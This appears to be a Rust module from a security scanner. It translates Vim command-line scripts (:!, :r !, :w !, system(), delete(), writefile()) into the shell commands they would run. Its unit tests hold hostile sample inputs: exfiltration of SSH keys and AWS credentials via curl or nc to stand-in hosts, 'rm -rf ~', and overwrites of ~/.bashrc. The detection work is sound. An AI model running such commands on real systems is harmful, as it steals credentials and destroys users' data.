//! The command lines in Vim script given to an editor on its command line (`vim -c CMD`,
//! `+CMD`, `--cmd CMD`): `:!CMD`, `:r !CMD`, `system("CMD")`, `delete(PATH, "rf")`,
//! `writefile(LIST, PATH)`, and the calls whose command line or path only run time knows.

/// Vim's functions that run a command line or code of another language, or write, move or
/// delete a path, and the Ex commands that run code of another language (`:lua`, `:py3`):
/// read where [`literal_runs`] can, else what they do is only known at run time
const RUNNERS: &[&str] = &[
    "system(",
    "systemlist(",
    "writefile(",
    "rename(",
    "filecopy(",
    "job_start(",
    "jobstart(",
    "termopen(",
    "term_start(",
    "delete(",
    "libcall(",
    "libcallnr(",
    "luaeval(",
    "pyeval(",
    "py3eval(",
    "pyxeval(",
    "rubyeval(",
    "perleval(",
    "lua ",
    "luado ",
    "luafile ",
    "py ",
    "py3 ",
    "python ",
    "python3 ",
    "pyx ",
    "pyfile ",
    "py3file ",
    "perl ",
    "ruby ",
    "rubyfile ",
    "tcl ",
    "mzscheme ",
];

/// Vim and the editors that read its command line (`vim -c CMD`, `-S FILE`)
pub(crate) const VIM_EDITORS: &[&str] =
    &["vim", "vi", "nvim", "ex", "view", "gvim", "vimdiff", "rvim"];

/// The script files an editor sources from its command line (`vim -S FILE`, `-u VIMRC`),
/// whose commands only their contents show; empty for any other program
pub(crate) fn sourced_files<'a>(program: &str, args: &'a [String]) -> Vec<&'a str> {
    if !VIM_EDITORS.contains(&program) {
        return Vec::new();
    }
    args.iter()
        .zip(args.iter().skip(1))
        .filter(|(option, _)| *option == "-S" || *option == "-u")
        .map(|(_, file)| file.as_str())
        .filter(|file| !file.starts_with('-') && *file != "NONE" && *file != "NORC")
        .collect()
}

/// The command lines an editor's Ex command `value` runs, and as `Err` why one of them
/// cannot be known
pub(crate) fn scripts(value: &str) -> Vec<Result<String, String>> {
    scripts_in(value, &mut Buffer::default())
}

/// The options of Vim that take a value in the next word (`:help startup-options`)
const VALUED_OPTIONS: &[&str] = &[
    "-c",
    "--cmd",
    "-S",
    "-u",
    "-U",
    "-i",
    "-T",
    "-s",
    "-w",
    "-W",
    "-t",
    "-q",
    "--servername",
    "--startuptime",
    "--listen",
];

/// The files an editor is given to edit (`vim -es -c … FILE`), the first of which it reads
/// into its buffer: its operands, past the values of its options and the `+CMD` words
pub(crate) fn edited_files(args: &[String]) -> Vec<&str> {
    let mut files = Vec::new();
    let mut words = args.iter();
    let mut after_dashes = false;
    while let Some(word) = words.next() {
        if after_dashes || !word.starts_with(['-', '+']) {
            files.push(word.as_str());
        } else if word == "--" {
            after_dashes = true;
        } else if VALUED_OPTIONS.contains(&word.as_str()) {
            words.next();
        }
    }
    files
}

/// The command lines of an editor's Ex commands `values`, run in turn on one buffer that
/// holds the first of `files` (those it edits): what it holds, and what `:r !CMD` and `:r
/// FILE` read into it, is the input of a later `:w !CMD` or `:%!CMD`
pub(crate) fn session_scripts<'a>(
    files: &[&str],
    values: impl IntoIterator<Item = &'a str>,
) -> Vec<Result<String, String>> {
    let mut buffer = Buffer::default();
    if let Some(file) = files.first().copied().filter(|file| plain_file(file)) {
        buffer.read.push(format!("cat -- {file}"));
    }
    values
        .into_iter()
        .flat_map(|value| scripts_in(value, &mut buffer))
        .collect()
}

/// The command lines whose output the editor's buffer holds, in order
#[derive(Default)]
struct Buffer {
    read: Vec<String>,
}

impl Buffer {
    /// `command` as it runs with the buffer as its input (`:w !CMD`): piped from what
    /// was read into the buffer, when anything was
    fn feeding(&self, command: &str) -> String {
        if self.read.is_empty() {
            command.to_owned()
        } else {
            format!("{{ {}; }} | {command}", self.read.join("; "))
        }
    }
}

/// What an Ex command with a bang does with the buffer (`:help :r!`, `:help :w_c`,
/// `:help :range!`, `:help :!`)
#[derive(Debug, PartialEq, Eq)]
enum Bang {
    /// `:r !CMD`: the command's output is read into the buffer
    Read,
    /// `:w !CMD`: the buffer is the command's input
    Write,
    /// `:{range}!CMD`: the lines are the command's input and become its output
    Filter,
    /// `:!CMD`, `:silent !CMD`: the command runs on its own
    Run,
}

/// What the Ex command `value` does with its bang's command (`:silent` put aside)
fn bang_kind(value: &str) -> Bang {
    let mut text = value.trim_start_matches(|c: char| c == ':' || c.is_whitespace());
    if let Some(rest) = ["silent!", "silent", "sil!", "sil"]
        .iter()
        .find_map(|word| text.strip_prefix(word))
        .filter(|rest| rest.starts_with(char::is_whitespace))
    {
        text = rest.trim_start();
    }
    let (name, _) = ex_name(text);
    let ranged = text.starts_with(|c: char| "%.$,;+-".contains(c) || c.is_ascii_digit());
    if !name.is_empty() && "read".starts_with(name) {
        Bang::Read
    } else if WRITERS.iter().any(|writer| is_command(name, *writer)) {
        Bang::Write
    } else if name.is_empty() && ranged {
        Bang::Filter
    } else {
        Bang::Run
    }
}

/// The command lines of `value`, with `buffer` what earlier commands read into the buffer
fn scripts_in(value: &str, buffer: &mut Buffer) -> Vec<Result<String, String>> {
    let mut scripts = Vec::new();
    // `:!CMD`, `:r !CMD`, `:w !CMD`, `:%!CMD`: what follows the bang is a shell's; the bang
    // of `:w! FILE` only forces the write.
    // The bang of `:qa!` leaves nothing to run.
    if let Some(command) = bang_command(value).map(str::trim).filter(|c| !c.is_empty()) {
        let line = match bang_kind(value) {
            Bang::Read => {
                buffer.read.push(command.to_owned());
                command.to_owned()
            }
            Bang::Write => buffer.feeding(command),
            Bang::Filter => {
                let line = buffer.feeding(command);
                buffer.read = vec![line.clone()];
                line
            }
            Bang::Run => command.to_owned(),
        };
        scripts.push(Ok(line));
    } else if let Some(file) = read_file(value) {
        buffer.read.push(format!("cat -- {file}"));
    }
    scripts.extend(value.split('|').filter_map(written_or_run));
    let (literal, all_read) = literal_runs(value);
    scripts.extend(literal.into_iter().map(Ok));
    let unread = RUNNERS
        .iter()
        .filter(|runner| !all_read || !LITERAL.contains(runner))
        .find(|runner| calls(value, runner).next().is_some());
    if let Some(runner) = unread {
        let name = runner.trim_end_matches(['(', ' ']);
        scripts.push(Err(format!(
            "what the editor's `{name}` runs or deletes is only known at run time"
        )));
    }
    scripts
}

/// The Ex commands that write the buffer to the file they are given (`:w FILE`, `:wq FILE`,
/// `:saveas FILE`), each as the shortest name Vim takes for it and its full name
const WRITERS: &[(&str, &str)] = &[
    ("w", "write"),
    ("wq", "wq"),
    ("x", "xit"),
    ("exi", "exit"),
    ("sav", "saveas"),
    ("up", "update"),
    ("wn", "wnext"),
    ("wN", "wNext"),
    ("wp", "wprevious"),
];

/// `:terminal CMD`, which runs its command line in a terminal window
const TERMINAL: (&str, &str) = ("ter", "terminal");

/// Whether `name` is the Ex command `(shortest, full)`: Vim takes any prefix of the full
/// name at least as long as the shortest
fn is_command(name: &str, (shortest, full): (&str, &str)) -> bool {
    name.starts_with(shortest) && full.starts_with(name)
}

/// An Ex command's name and what follows it, past the `:` and the range (`:%`, `:1,$`)
fn ex_name(command: &str) -> (&str, &str) {
    let text = command
        .trim_start_matches(|c: char| c == ':' || c.is_whitespace())
        .trim_start_matches(|c: char| "%.$,;+-".contains(c) || c.is_ascii_digit());
    let end = text
        .find(|c: char| !c.is_ascii_alphabetic())
        .unwrap_or(text.len());
    text.split_at(end)
}

/// The shell's command line after the first bang that runs one: every bang but the one
/// glued to a writer's name, which forces the write (`:w! FILE`)
fn bang_command(value: &str) -> Option<&str> {
    value.match_indices('!').find_map(|(at, _)| {
        let before = value.get(..at)?;
        let name_start = before
            .rfind(|c: char| !c.is_ascii_alphabetic())
            .map_or(0, |end| end + 1);
        let name = before.get(name_start..)?;
        let forces = !name.is_empty() && WRITERS.iter().any(|writer| is_command(name, *writer));
        (!forces).then(|| value.get(at + 1..)).flatten()
    })
}

/// The command line an Ex command runs or the write it makes, as a shell's: `:w FILE` as
/// `cat > FILE`, `:w >> FILE` as `cat >> FILE`, `:terminal CMD` as `CMD`; a file name
/// with a character the shell would read otherwise than Vim is only known at run time
fn written_or_run(command: &str) -> Option<Result<String, String>> {
    let (name, rest) = ex_name(command);
    let rest = rest.strip_prefix('!').unwrap_or(rest);
    let mut words = rest
        .split_whitespace()
        .filter(|word| !word.starts_with("++"));
    if is_command(name, TERMINAL) {
        let line = words.collect::<Vec<_>>().join(" ");
        return (!line.is_empty()).then_some(Ok(line));
    }
    if name.is_empty() || !WRITERS.iter().any(|writer| is_command(name, *writer)) {
        return None;
    }
    let mut file = words.next()?;
    let mut redirect = ">";
    if let Some(appended) = file.strip_prefix(">>") {
        redirect = ">>";
        file = if appended.is_empty() {
            words.next()?
        } else {
            appended
        };
    }
    if file.starts_with('!') {
        return None;
    }
    let plain = file
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || "_./~$-+@:,=".contains(c));
    Some(if plain {
        Ok(format!("cat {redirect} {file}"))
    } else {
        Err(format!(
            "the file the editor's `:{name}` writes, `{file}`, is only known at run time"
        ))
    })
}

/// The file `:r FILE` reads into the buffer, when its name reads the same to a shell
fn read_file(value: &str) -> Option<&str> {
    let (name, rest) = ex_name(value);
    if name.is_empty() || !"read".starts_with(name) {
        return None;
    }
    let file = rest
        .split_whitespace()
        .find(|word| !word.starts_with("++"))?;
    file.chars()
        .all(|c| c.is_ascii_alphanumeric() || "_./~$-+@:,=".contains(c))
        .then_some(file)
}

/// Whether the file name `file`, an editor's operand, reads the same to a shell: no
/// character a shell expands but a leading `~`
fn plain_file(file: &str) -> bool {
    let plain = |text: &str| {
        text.chars()
            .all(|c| c.is_ascii_alphanumeric() || "_./-+@:,=".contains(c))
    };
    match file.strip_prefix('~') {
        Some(rest) => rest.is_empty() || (rest.starts_with('/') && plain(rest)),
        None => !file.is_empty() && plain(file),
    }
}

/// The runners [`literal_runs`] reads
const LITERAL: &[&str] = &[
    "system(",
    "systemlist(",
    "delete(",
    "writefile(",
    "rename(",
    "filecopy(",
];

/// The command lines of the calls given literal arguments: `system("CMD")`,
/// `systemlist("CMD")`, `delete(PATH, FLAGS)` as `rm`, `writefile(LIST, PATH, FLAGS)` as
/// `cat > PATH` (`>>` with the flag `a`), `rename(FROM, TO)` as `mv` and `filecopy(FROM,
/// TO)` as `cp`; and whether every such call was given one
fn literal_runs(value: &str) -> (Vec<String>, bool) {
    let mut runs = Vec::new();
    let mut all_read = true;
    for function in LITERAL {
        for rest in calls(value, function) {
            let rest = rest.trim_start();
            let run = match *function {
                "delete(" => deletion(rest),
                "writefile(" => file_written(rest),
                "rename(" => two_paths("mv", rest),
                "filecopy(" => two_paths("cp", rest),
                _ => literal(rest).map(|(command, _)| command),
            };
            match run {
                Some(run) => runs.push(run),
                None => all_read = false,
            }
        }
    }
    (runs, all_read)
}

/// Where `value` calls `runner`, not a function whose name ends the same (`mysystem(`,
/// `s:system(`): what follows each call's name
fn calls<'a>(value: &'a str, runner: &'a str) -> impl Iterator<Item = &'a str> {
    value.match_indices(runner).filter_map(|(at, _)| {
        let before = value.get(..at)?.chars().next_back();
        let named = before.is_some_and(|last| last.is_alphanumeric() || last == '_' || last == ':');
        (!named).then(|| value.get(at + runner.len()..)).flatten()
    })
}

/// The literal flags argument after `rest`'s comma (`, "rf"`), if any; none is no flags
fn flags_after(rest: &str) -> String {
    rest.trim_start()
        .strip_prefix(',')
        .and_then(|rest| literal(rest.trim_start()))
        .map(|(flags, _)| flags)
        .unwrap_or_default()
}

/// The arguments of `delete()` as `rm`: `delete(PATH)` is `rm PATH`, `delete(PATH, "rf")`
/// `rm -rf PATH`, `delete(PATH, "d")` `rmdir PATH`
fn deletion(arguments: &str) -> Option<String> {
    let (path, rest) = path(arguments)?;
    let flags = flags_after(rest);
    let program = match flags.as_str() {
        "rf" => "rm -rf --",
        "d" => "rmdir --",
        _ => "rm --",
    };
    Some(format!("{program} {path}"))
}

/// The arguments of `writefile(LIST, PATH [, FLAGS])` as `cat > PATH`, or `cat >> PATH`
/// with the flag `a` (Vim's `:help writefile()`); the list, any expression, is skipped
fn file_written(arguments: &str) -> Option<String> {
    let rest = after_argument(arguments)?;
    let (path, rest) = path(rest.trim_start())?;
    let flags = flags_after(rest);
    let redirect = if flags.contains('a') { ">>" } else { ">" };
    Some(format!("cat {redirect} {path}"))
}

/// The arguments of `rename(FROM, TO)` and `filecopy(FROM, TO)` as `PROGRAM -- FROM TO`
fn two_paths(program: &str, arguments: &str) -> Option<String> {
    let (from, rest) = path(arguments)?;
    let rest = rest.trim_start().strip_prefix(',')?;
    let (to, _) = path(rest.trim_start())?;
    Some(format!("{program} -- {from} {to}"))
}

/// What follows the first argument of a call and its comma: the argument is skipped
/// whole, brackets, parentheses, braces and strings in it included; `None` when it does
/// not end in a comma
fn after_argument(text: &str) -> Option<&str> {
    let mut depth = 0usize;
    let mut rest = text;
    while let Some(found) = rest.chars().next() {
        match found {
            '"' | '\'' => {
                rest = literal(rest)?.1;
                continue;
            }
            '[' | '(' | '{' => depth += 1,
            ']' | ')' | '}' => depth = depth.checked_sub(1)?,
            ',' if depth == 0 => return rest.get(1..),
            _ => {}
        }
        rest = rest.get(found.len_utf8()..)?;
    }
    None
}

/// A path given as a literal, as a shell word, and what follows it: a string, quoted
/// (`'x'`), or `expand(STRING)`, unquoted, so that `~` and `$HOME` stand as Vim expands
/// them
fn path(text: &str) -> Option<(String, &str)> {
    if let Some(rest) = text.strip_prefix("expand(") {
        let (path, rest) = literal(rest.trim_start())?;
        let rest = rest.trim_start().strip_prefix(')')?;
        return Some((path, rest));
    }
    let (path, rest) = literal(text)?;
    Some((format!("'{}'", path.replace('\'', r"'\''")), rest))
}

/// A Vim string literal at the start of `text` (`"a\"b"`, `'it''s'`), its value and
/// what follows it
fn literal(text: &str) -> Option<(String, &str)> {
    let mut chars = text.char_indices();
    let (_, quote) = chars.next()?;
    if quote != '"' && quote != '\'' {
        return None;
    }
    let mut value = String::new();
    while let Some((at, found)) = chars.next() {
        if found == '\\' && quote == '"' {
            value.push(chars.next()?.1);
        } else if found != quote {
            value.push(found);
        } else if quote == '\'' && text.get(at + 1..)?.starts_with('\'') {
            // `''` is a quote inside a single-quoted string.
            chars.next();
            value.push('\'');
        } else {
            return Some((value, text.get(at + 1..)?));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::{edited_files, scripts, session_scripts, sourced_files};

    #[test]
    fn an_editor_sources_the_files_of_its_options() {
        let words = |line: &str| line.split(' ').map(str::to_owned).collect::<Vec<_>>();
        let args = words("-u /tmp/rc -S x.vim -c q f.txt");
        assert_eq!(sourced_files("nvim", &args), ["/tmp/rc", "x.vim"]);
        assert!(sourced_files("vim", &words("-u NONE f.txt")).is_empty());
        assert!(sourced_files("less", &args).is_empty());
    }

    #[test]
    fn reads_the_commands_and_deletions_of_vim_script() {
        let cases = [
            ("!rm -rf x", "rm -rf x"),
            ("r !curl x", "curl x"),
            (r#"call system("rm -rf ~")"#, "rm -rf ~"),
            ("echo systemlist('ls ''a''')", "ls 'a'"),
            (r#"call delete(expand("~"), "rf")"#, "rm -rf -- ~"),
            ("call delete('x.txt')", "rm -- 'x.txt'"),
            ("call delete( '/srv' , 'd')", "rmdir -- '/srv'"),
            // `:help writefile()`: writes the List to the file, appending with flag "a".
            (
                r#"call writefile(["x", 'a,b'], expand("~/.bashrc"))"#,
                "cat > ~/.bashrc",
            ),
            (
                r#"call writefile(split("a,b", ","), '/etc/x', "a")"#,
                "cat >> '/etc/x'",
            ),
            // `:help rename()` moves a file, `:help filecopy()` copies one.
            (
                r#"call rename(expand("~/.ssh/id_rsa"), "/tmp/k")"#,
                "mv -- ~/.ssh/id_rsa '/tmp/k'",
            ),
            ("call filecopy('a', '/etc/hosts')", "cp -- 'a' '/etc/hosts'"),
        ];
        for (value, expected) in cases {
            assert_eq!(scripts(value), [Ok(expected.to_owned())], "{value}");
        }
        for value in [
            "wq",
            "w!",
            "set ft=python",
            "call mysystem('x')",
            "%s/a/b/g",
            "terminal",
        ] {
            assert_eq!(scripts(value), [], "{value}");
        }
        for value in [
            "call system(g:cmd)",
            "call jobstart(['rm', '-rf', '~'])",
            "call delete(g:dir, 'rf')",
            "lua os.execute('rm -rf ~')",
            "call termopen(x)",
            "call writefile(lines, g:file)",
            "call rename(f, expand('~/.bashrc'))",
            "py3 import os; os.system('rm -rf ~')",
            "perl system('id')",
            "call system('ls') | call system(g:x)",
            "w `x`",
        ] {
            assert!(scripts(value).iter().any(Result::is_err), "{value}");
        }
    }

    /// Vim's `:help :r!` reads a command's output into the buffer and `:help :r` a file's,
    /// `:help :w_c` gives the buffer to a command as its input, `:help :range!` filters the
    /// lines through a command; `:help :!` runs one on its own, `:silent` only quiets it.
    #[test]
    fn what_is_read_into_the_buffer_is_the_input_of_a_later_command() {
        let session = |values: &[&str]| -> Vec<String> {
            session_scripts(&[], values.iter().copied())
                .into_iter()
                .flatten()
                .collect()
        };
        assert_eq!(
            session(&["r !cat ~/.ssh/id_rsa", "w !curl -T - https://x", "qa!"]),
            [
                "cat ~/.ssh/id_rsa",
                "{ cat ~/.ssh/id_rsa; } | curl -T - https://x"
            ]
        );
        assert_eq!(
            session(&["r ~/.aws/credentials", "silent w !nc h 1"]),
            ["{ cat -- ~/.aws/credentials; } | nc h 1"]
        );
        assert_eq!(
            session(&["read !id", "%!base64", "w !sh"]),
            ["id", "{ id; } | base64", "{ { id; } | base64; } | sh"]
        );
        assert_eq!(session(&["silent !make", "w !wc -l"]), ["make", "wc -l"]);
        assert_eq!(session(&["w !sh"]), ["sh"]);
        // The file an editor is given is in its buffer from the start.
        let words = |line: &str| line.split(' ').map(str::to_owned).collect::<Vec<_>>();
        let mut args = words("-es -S x.vim -c");
        args.push("w !nc h 1".to_owned());
        args.extend(words("+1 ~/.ssh/id_rsa notes.txt"));
        let files = edited_files(&args);
        assert_eq!(files, ["~/.ssh/id_rsa", "notes.txt"]);
        let read: Vec<String> = session_scripts(&files, ["w !nc h 1"])
            .into_iter()
            .flatten()
            .collect();
        assert_eq!(read, ["{ cat -- ~/.ssh/id_rsa; } | nc h 1"]);
        assert_eq!(edited_files(&words("-c q -- -odd")), ["-odd"]);
    }

    /// Vim's `:help :w_f`, `:w_a`, `:saveas`, `:wq`, `:x` and `:terminal`: the bang after a
    /// writer's name forces the write (`:help :w!`), a blank before it pipes the buffer into
    /// a command (`:help :w_c`)
    #[test]
    fn reads_the_writes_and_terminals_of_ex_commands() {
        let cases: [(&str, &[&str]); 9] = [
            ("w! ~/.bashrc", &["cat > ~/.bashrc"]),
            (":write /etc/hosts", &["cat > /etc/hosts"]),
            ("w >> ~/.profile", &["cat >> ~/.profile"]),
            ("w>>~/.profile", &["cat >> ~/.profile"]),
            ("sav! ++enc=utf-8 /tmp/x", &["cat > /tmp/x"]),
            ("%wq! out.txt", &["cat > out.txt"]),
            ("w !sh", &["sh"]),
            ("set nomore | w! ~/.bashrc | q", &["cat > ~/.bashrc"]),
            (
                "ter ++close kubectl delete ns prod",
                &["kubectl delete ns prod"],
            ),
        ];
        for (value, expected) in cases {
            let read: Vec<_> = scripts(value).into_iter().flatten().collect();
            assert_eq!(read, expected, "{value}");
        }
    }
}
